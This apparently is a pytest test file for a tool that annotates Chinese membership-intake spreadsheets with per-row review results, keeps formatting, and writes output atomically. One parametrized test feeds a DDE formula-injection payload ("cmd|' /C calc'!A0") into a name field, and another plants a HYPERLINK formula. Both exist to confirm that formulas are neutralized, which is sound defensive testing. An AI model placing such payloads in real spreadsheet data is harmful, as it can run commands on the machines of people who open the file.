"""The annotated copy: the form as it was, with the reasons beside each row, safe to open and to send in again."""

import datetime
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from personalize.errors import DamagedFile, ReportNotWritten
from personalize.intake import RowOnRecord, RowState, check
from personalize.intake.annotate import annotate
from tests.support import forms
from tests.support.forms import HEADER, TITLE, TODAY, UNIT_LINE, id_number, person


def annotated(path: Path, out: Path) -> Any:
    annotate(check(path, today=TODAY), out)
    return load_workbook(out)


def column(sheet: Any, letter: str, *rows: int) -> list[Any]:
    return [sheet[f"{letter}{row}"].value for row in rows]


def test_reasons_stand_beside_their_rows(tmp_path: Path) -> None:
    people = [person(1), person(2, phone="12345", name=None), person(3, id=" " + id_number(serial=3))]
    book = annotated(forms.xlsx(tmp_path / "f.xlsx", forms.form(*people)), tmp_path / "out.xlsx")
    sheet = book["Sheet"]
    assert column(sheet, "G", 3, 4, 5, 6) == ["审核结果", "通过", "退回", "通过"]
    assert column(sheet, "H", 3, 4) == ["审核说明", None]
    assert sheet["H5"].value.startswith("没有填写姓名；手机号码不对")
    assert sheet["H6"].value.startswith("已整理身份证号")
    assert sheet["B5"].fill.start_color.rgb == "FFFFC7CE"
    assert sheet["B4"].fill.fill_type is None
    assert "12345" not in sheet["H5"].value
    summary = {row[0]: row for row in book["审核汇总"].iter_rows(values_only=True)}
    assert (summary["通过"][1], summary["退回"][1]) == (2, 1)
    assert summary["PHONE_FORMAT"][2] == summary["ID_NORMALIZED"][2] == 1


def test_the_form_keeps_its_cells_and_formats(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    forms.fill(sheet, [*forms.form(person(1)), ("填表人：", "张三")])
    sheet.merge_cells("A1:F1")
    sheet["A1"].font = Font(size=20, bold=True)
    sheet["B4"].number_format = "@"
    sheet["G4"] = datetime.date(2020, 1, 2)
    sheet.column_dimensions["B"].width = 33
    book.create_sheet("附表")["A1"] = "别的"
    book.save(tmp_path / "f.xlsx")
    out = annotated(tmp_path / "f.xlsx", tmp_path / "out.xlsx")
    assert out.sheetnames == ["Sheet", "附表", "审核汇总"]
    marked = out["Sheet"]
    assert [str(cells) for cells in marked.merged_cells.ranges] == ["A1:F1"]
    assert (marked["A1"].font.size, marked["B4"].number_format, marked.column_dimensions["B"].width) == (20, "@", 33)
    assert marked["G4"].value == datetime.datetime(2020, 1, 2)
    assert (marked["H4"].value, marked["A5"].value) == ("通过", "填表人：")


def test_sent_in_again_it_is_read_and_marked_anew(tmp_path: Path) -> None:
    form = forms.xlsx(tmp_path / "f.xlsx", forms.form(person(1), person(2, phone="12345")))
    first = annotated(form, tmp_path / "one.xlsx")
    first["Sheet"]["E5"] = "18801434136"
    first.save(tmp_path / "two.xlsx")
    second = annotated(tmp_path / "two.xlsx", tmp_path / "three.xlsx")
    assert column(second["Sheet"], "G", 3, 4, 5) == ["审核结果", "通过", "通过"]
    assert column(second["Sheet"], "H", 4, 5) == [None, None]
    assert second["Sheet"].max_column == 8
    assert second.sheetnames == ["Sheet", "审核汇总"]
    summary = {row[0]: row[1] for row in second["审核汇总"].iter_rows(values_only=True)}
    assert [summary[title] for title in ("原文件", "通过", "退回")] == ["two.xlsx", 2, 0]
    assert "PHONE_FORMAT" not in summary


def test_each_row_on_record_has_the_sentence_of_its_own_batch(tmp_path: Path) -> None:
    report = check(
        forms.xlsx(tmp_path / "f.xlsx", forms.form(*(person(number) for number in range(1, 5)))), today=TODAY
    )
    rows = [
        RowOnRecord(row.sheet_row, row.seq, row.person, row.unit, (RowState.UNCHANGED,), row.sheet, row.above, batch)
        for row, batch in zip(report.accepted, ("B20261101-001", "", "B20261101-002", "B20261101-001"), strict=True)
    ]
    annotate(replace(report, rows=tuple(rows)), tmp_path / "out.xlsx")
    reasons = column(load_workbook(tmp_path / "out.xlsx")["Sheet"], "H", 4, 5, 6, 7)
    assert [reason.partition("；")[0] for reason in reasons] == [
        "已在批次B20261101-001中",
        "已有会员卡",
        "已在批次B20261101-002中",
        "已在批次B20261101-001中",
    ]


def test_no_formula_survives(tmp_path: Path) -> None:
    book = Workbook()
    forms.fill(book.active, forms.form(person(1), person(2)))
    book.active["A4"] = "=ROW()-3"
    book.active["C5"] = '=HYPERLINK("http://example.org/"&B5,"孙波磊")'
    book.save(tmp_path / "f.xlsx")
    out = annotated(tmp_path / "f.xlsx", tmp_path / "out.xlsx")
    assert not [cell for row in out["Sheet"].iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t="])
def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path, start: str) -> None:
    evil = start + "cmd|' /C calc'!A0"
    form = forms.text(tmp_path / "f.csv", forms.form(person(1, name=evil)))
    sheet = annotated(form, tmp_path / "out.xlsx")["名单"]
    assert sheet["C4"].data_type == "s"
    assert sheet["C4"].value == evil
    assert sheet["C4"].quotePrefix
    assert sheet["G4"].value == "退回"


@pytest.mark.parametrize("kind", ["csv", "xls"])
def test_other_files_become_a_workbook_of_text(tmp_path: Path, kind: str) -> None:
    rows = forms.form(person(1), person(2, phone=18801434135, gender="男"))
    form = (
        forms.xls(tmp_path / "f.xls", rows)
        if kind == "xls"
        else forms.text(tmp_path / "f.csv", rows, encoding="gb18030")
    )
    book = annotated(form, tmp_path / "out.xlsx")
    sheet = book.worksheets[0]
    assert (sheet["A1"].value, sheet["B4"].value, sheet["B4"].number_format) == (TITLE[0], id_number(serial=1), "@")
    assert (sheet["E5"].value, sheet["E5"].data_type) == ("18801434135", "s")
    assert column(sheet, "G", 3, 4, 5) == ["审核结果", "通过", "退回"]
    assert forms.verdicts(check(tmp_path / "out.xlsx", today=TODAY)) == ["ok", "GENDER_MISMATCH"]


def test_a_table_that_does_not_start_at_the_edge_and_several_sheets(tmp_path: Path) -> None:
    book = Workbook()
    shifted = [(None, None, *row) for row in forms.form(person(1), person(2, name=None))]
    forms.fill(book.active, [(None,), (None,), *shifted])
    forms.fill(book.create_sheet("二部"), [HEADER, person(3, gender=None)])
    book.save(tmp_path / "f.xlsx")
    out = annotated(tmp_path / "f.xlsx", tmp_path / "out.xlsx")
    assert column(out["Sheet"], "I", 5, 6, 7) == ["审核结果", "通过", "退回"]
    assert column(out["二部"], "G", 1, 2) == ["审核结果", "退回"]


def test_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    form = forms.xlsx(tmp_path / "f.xlsx", forms.form(person(1)))
    report = check(form, today=TODAY)
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"old")

    def full_disk(*_: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("os.fsync", full_disk)
        with pytest.raises(ReportNotWritten, match="No space left"):
            annotate(report, out)
    assert out.read_bytes() == b"old"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["f.xlsx", "out.xlsx"]
    annotate(report, out)
    assert out.stat().st_mode & 0o077 == 0


def test_refusals(tmp_path: Path) -> None:
    form = forms.xlsx(tmp_path / "f.xlsx", forms.form(person(1)))
    report = check(form, today=TODAY)
    with pytest.raises(ReportNotWritten, match="must be named"):
        annotate(report, tmp_path / "out.csv")
    with pytest.raises(ReportNotWritten, match="the form itself"):
        annotate(report, form)
    with pytest.raises(ReportNotWritten, match="cannot write"):
        annotate(report, tmp_path / "nowhere" / "out.xlsx")
    forms.xlsx(form, [TITLE, UNIT_LINE, HEADER])
    with pytest.raises(DamagedFile, match="changed since"):
        annotate(report, tmp_path / "out.xlsx")


def test_a_workbook_that_openpyxl_cannot_read_is_created_again(tmp_path: Path) -> None:
    def with_nonsense(parts: dict[str, bytes]) -> None:
        parts["xl/styles.xml"] = parts["xl/styles.xml"].replace(b"<fills>", b"<fills><fill><nonsense/></fill>")

    form = forms.xlsx(tmp_path / "f.xlsx", forms.form(person(1, gender=None)))
    sheet = annotated(forms.repacked(form, tmp_path / "g.xlsx", with_nonsense), tmp_path / "out.xlsx")["Sheet"]
    assert (sheet["B4"].value, sheet["G4"].value) == (id_number(serial=1), "退回")
